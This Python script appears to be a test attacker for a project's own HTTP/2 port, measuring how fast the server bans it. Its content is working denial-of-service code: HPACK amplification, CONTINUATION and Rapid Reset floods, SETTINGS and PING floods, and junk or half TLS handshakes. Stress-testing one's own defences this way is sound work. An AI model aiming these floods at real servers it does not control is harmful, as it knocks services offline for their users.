"""One attacker of the agents' port: sends what it is told to until it is turned away or its time is up, and reports as JSON.

Usage: flooder.py KIND HOST:PORT SECONDS [IDENTITY.pem]
"""

import itertools
import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, CONTINUATION, RESET, PING = 4, 1, 9, 3, 6
END_HEADERS = 4
PIECE = 64 * 1024


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def insert_many():
    """Literal fields that fill the dynamic table, then a thousand one-byte references to the largest of them."""
    value = b"v" * 120
    fields = b"".join(b"\x40" + bytes([4]) + f"k{i:03}".encode() + bytes([len(value)]) + value for i in range(20))
    return fields + b"\xbe" * 4000


def frames_of(kind):
    """What one turn sends, for the Nth turn."""
    headers = b"\x83\x86\x84\x41\x01a"
    return {
        "hpack": lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, insert_many()),
        "continuation": lambda n: (frame(HEADERS, 0, 1, headers) if n == 0 else b"") + frame(CONTINUATION, 0, 1, b"\x82" * 16) * 50,
        "rapid_reset": lambda n: b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(RESET, 0, 2 * i + 1, b"\0\0\0\x08")
                                          for i in range(50 * n, 50 * n + 50)),
        "settings": lambda n: frame(SETTINGS, 0, 0, b"") * 100,
        "pings": lambda n: frame(PING, 0, 0, b"12345678") * 100,
        "streams": lambda n: b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) for i in range(50 * n, 50 * n + 50)),
    }[kind]


def client_context(identity):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # an attacker does not mind who answers
    context.set_alpn_protocols(["h2"])
    if identity:
        context.load_cert_chain(identity)
    return context


class Flood:
    def __init__(self, address, seconds, identity):
        host, port = address.rsplit(":", 1)
        self.address, self.identity = (host, int(port)), identity
        self.sent, self.began = 0, time.monotonic()
        self.ends = self.began + seconds
        self.banned_after = None
        self.cut = 0

    def over(self):
        return time.monotonic() >= self.ends

    def connect(self):
        return socket.create_connection(self.address, timeout=3)

    def banned(self):
        if self.banned_after is None:
            self.banned_after = round(time.monotonic() - self.began, 3)

    def is_turned_away(self):
        """Whether a connection is closed before any byte of a handshake is answered."""
        try:
            with self.connect() as raw:
                if self.identity is None:
                    raw.settimeout(0.1)
                    return raw.recv(1) == b""
                with client_context(self.identity).wrap_socket(raw) as wrapped:
                    wrapped.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                    return wrapped.recv(1) == b""
        except TimeoutError:
            return False
        except (ssl.SSLError, OSError):
            return True

    def one_stranger(self, kind):
        hello = b"\x16\x03\x01\x00\x2e\x01\x00\x00\x2a" + b"\0" * 42
        with self.connect() as raw:
            raw.settimeout(0.3)
            if kind == "garbage":
                raw.sendall(b"\xff" * 2048)
                self.sent += 2048
                raw.recv(64)
            elif kind == "half_handshakes":
                raw.sendall(hello[:30])
                self.sent += 30
            else:
                wrapped = client_context(None).wrap_socket(raw)  # whole handshakes, without a certificate
                self.sent += 1000
                wrapped.recv(1)

    def strangers(self, kind):
        for turn in itertools.count(1):
            if self.over() or self.banned_after is not None:
                return
            try:
                self.one_stranger(kind)
            except OSError:
                self.cut += 1
            if turn % 50 == 0 and self.is_turned_away():
                self.banned()

    def enrolled(self, kind):
        make = frames_of(kind)
        try:
            with self.connect() as raw, client_context(self.identity).wrap_socket(raw) as wrapped:
                wrapped.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                turn, piece = 0, b""
                while not self.over():
                    piece += make(turn)
                    turn += 1
                    if len(piece) >= 4096:
                        wrapped.sendall(piece[:PIECE])
                        self.sent += len(piece[:PIECE])
                        piece = piece[PIECE:]
        except OSError:
            self.cut += 1
        while not self.over():
            if self.is_turned_away():
                self.banned()
                return
            time.sleep(0.05)


def main():
    kind, address, seconds, *identity = sys.argv[1:]
    flood = Flood(address, float(seconds), identity[0] if identity else None)
    (flood.enrolled if identity else flood.strangers)(kind)
    print(json.dumps({"sent_bytes": flood.sent, "banned_after_s": flood.banned_after, "cut": flood.cut}))


if __name__ == "__main__":
    main()
